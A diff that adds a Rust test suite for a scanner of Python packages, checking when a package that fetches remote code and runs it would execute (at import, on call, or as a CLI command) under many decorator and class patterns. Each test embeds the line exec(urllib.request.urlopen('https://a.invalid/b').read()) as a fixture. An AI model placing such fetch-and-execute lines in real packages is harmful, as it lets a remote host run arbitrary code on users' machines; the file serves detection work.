@@ -1,0 +1,171 @@
+use crate::flow::analyse;
+use crate::package::Package;
+use crate::unpack::{Content, Entry, Kind, Tree};
+use customs_model::{SinkKind, SourceKind, Zone};
+
+fn file(path: &str, text: &str) -> Entry {
+    Entry {
+        path: path.to_owned(),
+        content: Content::Whole(text.as_bytes().into()),
+        length: text.len() as u64,
+        kind: Kind::Text,
+        executable: false,
+    }
+}
+
+/// When a package runs what it downloads.
+fn runs(entries: Vec<Entry>) -> Zone {
+    let found = analyse(&Package::new(&Tree {
+        entries,
+        ..Tree::default()
+    }));
+    let flows = found
+        .flows
+        .iter()
+        .filter(|flow| flow.source == SourceKind::Remote && flow.sink == SinkKind::DynamicCode);
+    flows.map(|flow| flow.zone).max().unwrap_or(Zone::Never)
+}
+
+fn python(code: &str) -> Zone {
+    runs(vec![
+        file("a/__init__.py", code),
+        file("a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n"),
+    ])
+}
+
+const HEAD: &str = "\
+import abc, contextlib, dataclasses, functools, typing
+import urllib.request
+";
+const WORK: &str = "exec(urllib.request.urlopen('https://a.invalid/b').read())";
+
+#[test]
+fn decorators_of_the_library_call_nothing() {
+    for decorator in [
+        "@property",
+        "@classmethod",
+        "@staticmethod",
+        "@abc.abstractmethod",
+        "@functools.cached_property",
+        "@functools.lru_cache",
+        "@functools.lru_cache(maxsize=8)",
+        "@functools.wraps(print)",
+        "@contextlib.contextmanager",
+        "@typing.overload",
+        "@classmethod\n    @contextlib.contextmanager",
+    ] {
+        let code = format!("{HEAD}class A:\n    {decorator}\n    def go(self):\n        {WORK}\n");
+        assert_eq!(python(&code), Zone::Called, "{decorator}");
+    }
+    for decorator in [
+        "@dataclasses.dataclass",
+        "@dataclasses.dataclass(frozen=True)",
+    ] {
+        let code = format!("{HEAD}{decorator}\nclass A:\n    def go(self):\n        {WORK}\n");
+        assert_eq!(python(&code), Zone::Called, "{decorator}");
+    }
+}
+
+#[test]
+fn what_such_a_decorator_keeps_runs_when_it_is_called_at_import() {
+    let cases = [
+        ("@property", "A().go"),
+        ("@property", "print(A().go)"),
+        ("@property", "x = [A().go]"),
+        ("@functools.cached_property", "A().go"),
+        ("@classmethod", "A.go()"),
+        ("@staticmethod", "A.go()"),
+        ("@functools.lru_cache", "A().go()"),
+        ("@contextlib.contextmanager", "with A().go():\n    pass"),
+    ];
+    for (decorator, last) in cases {
+        let code =
+            format!("{HEAD}class A:\n    {decorator}\n    def go(self):\n        {WORK}\n{last}\n");
+        assert_eq!(python(&code), Zone::Import, "{decorator} {last}");
+    }
+}
+
+#[test]
+fn a_property_runs_when_a_method_that_runs_reads_it() {
+    let class = |last: &str| {
+        format!(
+            "{HEAD}class A:\n    @property\n    def go(self):\n        {WORK}\n    \
+             def all(self):\n        return self.go\n{last}\n"
+        )
+    };
+    assert_eq!(python(&class("A().all()")), Zone::Import);
+    assert_eq!(python(&class("A()")), Zone::Called);
+    assert_eq!(
+        python(&class("if __name__ == '__main__':\n    A().all()")),
+        Zone::Called
+    );
+}
+
+#[test]
+fn a_setter_runs_when_something_is_put_there() {
+    let class = |last: &str| {
+        format!(
+            "{HEAD}class A:\n    @property\n    def go(self):\n        return 1\n    \
+             @go.setter\n    def go(self, value):\n        {WORK}\n{last}\n"
+        )
+    };
+    assert_eq!(python(&class("")), Zone::Called);
+    assert_eq!(python(&class("A().go = 2")), Zone::Import);
+}
+
+#[test]
+fn what_python_calls_of_a_decorated_class_is_not_taken_to_wait() {
+    let code = format!(
+        "{HEAD}@dataclasses.dataclass\nclass A:\n    def __post_init__(self):\n        {WORK}\n"
+    );
+    assert_eq!(python(&code), Zone::Import);
+}
+
+#[test]
+fn settings_of_a_cache_may_be_a_function_that_calls_the_one_below() {
+    let code =
+        format!("{HEAD}def now(f):\n    f()\n@functools.lru_cache(now)\ndef go():\n    {WORK}\n");
+    assert_eq!(python(&code), Zone::Import);
+}
+
+#[test]
+fn a_name_of_the_library_that_the_package_defines_is_its_own() {
+    let code = format!("{HEAD}def property(f):\n    f()\n@property\ndef go():\n    {WORK}\n");
+    assert_eq!(python(&code), Zone::Import);
+}
+
+#[test]
+fn a_command_of_a_group_waits_for_it() {
+    let code = format!(
+        "import click\n{HEAD}@click.group()\ndef cli():\n    pass\n\
+         @cli.group()\ndef sub():\n    pass\n@sub.command('go')\ndef go():\n    {WORK}\n"
+    );
+    assert_eq!(python(&code), Zone::Command);
+    let added = format!(
+        "import click\n{HEAD}@click.group()\ndef cli():\n    pass\n\
+         def go():\n    {WORK}\ncli.add_command(go)\n"
+    );
+    assert_eq!(python(&added), Zone::Command);
+    let own = format!(
+        "{HEAD}def now(f):\n    f.command = lambda: lambda g: g()\n    return f\n\
+         @now\ndef cli():\n    pass\n@cli.command()\ndef go():\n    {WORK}\n"
+    );
+    assert_eq!(python(&own), Zone::Import);
+}
+
+#[test]
+fn who_asks_what_something_is_calls_none_of_its_methods() {
+    for last in [
+        "isinstance(1, A)",
+        "issubclass(dict, (A, list))",
+        "T = typing.TypeVar('T', bound=A)",
+        "typing.cast(A, 1)",
+    ] {
+        let class =
+            |name: &str| format!("{HEAD}class A:\n    def {name}(self):\n        {WORK}\n{last}\n");
+        assert_eq!(python(&class("go")), Zone::Called, "{last}");
+        assert_eq!(python(&class("__subclasshook__")), Zone::Import, "{last}");
+    }
+    let handed = format!("{HEAD}class A:\n    def go(self):\n        {WORK}\nprint(A)\n");
+    assert_eq!(python(&handed), Zone::Import);
+}
